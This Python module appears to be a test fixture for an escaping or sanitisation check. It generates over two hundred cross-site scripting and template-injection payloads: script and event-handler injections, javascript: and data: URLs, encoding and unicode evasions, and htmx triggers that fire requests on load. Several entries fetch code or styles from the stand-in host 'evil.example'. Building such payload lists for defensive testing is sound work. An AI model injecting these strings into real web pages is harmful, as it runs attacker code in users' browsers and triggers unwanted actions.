"""Two hundred and more texts that would be code if a page took them for what they look like."""

from __future__ import annotations

from itertools import product

_CALLS = ["alert(1)", "confirm`1`", "top['al'+'ert'](1)", "import('//evil.example/x')"]
_TAGS = [
    "img src=x",
    "svg",
    "body",
    "details open",
    "video><source",
    "iframe",
    "input autofocus",
    "marquee",
    "a href=#",
    "math",
]
_EVENTS = ["onerror", "onload", "ontoggle", "onfocus", "onmouseover"]

PAYLOADS: list[str] = [
    *(f"<script>{call}</script>" for call in _CALLS),
    *(f"</script><script>{call}//" for call in _CALLS),
    *(f"<{tag} {event}={call}>" for tag, event, call in product(_TAGS, _EVENTS, _CALLS[:3])),
    *(f"\"><img src=x onerror={call}>" for call in _CALLS),
    *(f"'><svg onload={call}>" for call in _CALLS),
    *(f"' onfocus={call} autofocus x='" for call in _CALLS),
    *(f"javascript:{call}" for call in _CALLS),
    *(f"<iframe src=\"javascript:{call}\">" for call in _CALLS),
    *(f"<a href=\"data:text/html,<script>{call}</script>\">x</a>" for call in _CALLS),
    *(f"<style>@import'//evil.example/{number}';</style>" for number in range(3)),
    *("{{7*7}}", "{% raw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ config }}", "{{''.__class__.__mro__}}"),
    *("<link rel=stylesheet href=//evil.example/x>", "<base href=//evil.example/>"),
    *("<meta http-equiv=refresh content=0>",),
    *("<form action=//evil.example><button>x", "<object data=//evil.example/x>", "<embed src=//evil.example/x>"),
    *("<div hx-get=//evil.example/x hx-trigger=load>x</div>", "<div hx-on:load=alert(1)>x</div>"),
    *("<button hx-post=/console/runs/x/cancel hx-trigger=load>x</button>", "<div data-copy>x</div>"),
    *("-->", "<!--", "]]>", "<![CDATA[x", "&lt;script&gt;alert(1)&lt;/script&gt;", "\\u003cscript\\u003e"),
    *("\u202e\u2066<b>", "\ufeff<script>", "<scr\u200bipt>", "%3Cscript%3Ealert(1)%3C/script%3E"),
    *("<\u017fcript>alert(1)</\u017fcript>",),
    *("<svg><title><style><img src=x onerror=alert(1)>",),
    *("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",),
]  # fmt: skip
